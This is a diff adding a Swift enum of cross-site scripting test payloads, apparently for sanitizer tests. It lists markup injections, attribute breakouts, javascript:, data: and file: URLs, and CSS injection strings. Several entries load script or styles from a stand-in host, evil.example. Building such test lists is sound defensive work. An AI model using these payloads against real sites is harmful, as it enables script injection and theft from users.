@@ -1,0 +1,68 @@
+/// What testers put where a value goes, to see whether it runs. Each calls `alert`, if it runs at all.
+public enum XSSPayloads {
+    public static let markup = [
+        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
+        "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
+        "<iframe srcdoc='<script>alert(1)</script>'>",
+        "<math><mi xlink:href='javascript:alert(1)'>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>",
+        "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
+        "<object data=javascript:alert(1)>",
+        "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><input type=submit>", "<isindex action=javascript:alert(1)>",
+        "<base href=javascript:alert(1)//>", "<link rel=stylesheet href=//evil.example/x.css>",
+        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+        "<style>@import'//evil.example/x.css'</style>", "<style>*{background:url(javascript:alert(1))}</style>",
+        "<template><script>alert(1)</script></template>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg><style><img src=x onerror=alert(1)></style>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<x onclick=alert(1)>",
+        "<<script>alert(1);//<</script>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=\"x\" onerror=\"alert(1)\"", "<!--><img src=x onerror=alert(1)>-->",
+        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<svg><animate onbegin=alert(1)>",
+        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>",
+        "<svg><set attributeName=onmouseover to=alert(1)>",
+        "<svg><foreignObject><iframe/onload=alert(1)></foreignObject></svg>",
+    ]
+    public static let breakingOut = [
+        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
+        "\"onfocus=alert(1) autofocus=\"",
+        "` onmouseover=alert(1)", "x onmouseover=alert(1)", "\"/><svg onload=alert(1)>", "--><script>alert(1)</script>",
+        "--!><script>alert(1)</script>",
+        "]]><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
+        "</style><script>alert(1)</script>",
+        "</script><script>alert(1)</script>", "</p></div></body></html><script>alert(1)</script>",
+        "<!--]--><script>alert(1)</script><!--[-->",
+        "<!--[--><img src=x onerror=alert(1)>", "\\\"><script>alert(1)</script>", "\u{0}\"><script>alert(1)</script>",
+        "\r\n\"><script>alert(1)</script>",
+        "\t'><img src=x onerror=alert(1)>", "&#34;><script>alert(1)</script>", "&quot; onload=alert(1)",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}", "\u{2028}<script>alert(1)</script>", "\u{feff}<script>alert(1)</script>",
+        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "\" data-h=\"0", "data-h=0",
+    ]
+    public static let urls = [
+        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
+        "java\nscript:alert(1)",
+        "java\r\nscript:alert(1)", "\u{1}javascript:alert(1)", "\u{0}javascript:alert(1)", "\u{1f}\u{20}javascript:alert(1)",
+        "javascript\t:alert(1)",
+        "javascript\n:alert(1)", "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/", "javascript://%0aalert(1)",
+        "javascript://example.com/%0d%0aalert(1)", "vbscript:msgbox(1)", "VBSCRIPT:x", "livescript:x", "mocha:x",
+        "data:text/html,<script>alert(1)</script>",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x", "data:image/svg+xml,<svg onload=alert(1)>",
+        "data:,x",
+        "blob:https://example.com/x", "filesystem:https://example.com/x", "file:///etc/passwd", "view-source:javascript:alert(1)",
+        "feed:javascript:alert(1)",
+        "jar:http://x!/y", "about:blank", "intent://x#Intent;scheme=javascript;end", "ms-appx:x", "x-javascript:alert(1)",
+        "j\u{0}avascript:alert(1)",
+        "\u{a0}javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "javascript:alert(1)//http://ok.example/",
+        "ws://x",
+    ]
+    public static let styles = [
+        "red;background:url(//evil.example)", "url(javascript:alert(1))", "expression(alert(1))", "red}body{display:none", "red/*", "*/red",
+        "\\75rl(//x)",
+        "image-set('//evil.example' 1x)", "attr(title)", "-moz-binding:url(x)", "behavior:url(x)", "@import '//x'", "\"", "'", "<!--",
+        "calc(url(x))",
+        "u\\rl(x)", "element(#x)", "red;", "a:b", "(x)", "env(x)", "URL(x)", "image(x)", "red\nblue", "cross-fade(x)", "paint(x)", ")",
+        "((", "a//b", "{",
+    ]
+    public static let all = markup + breakingOut + urls + styles
+}
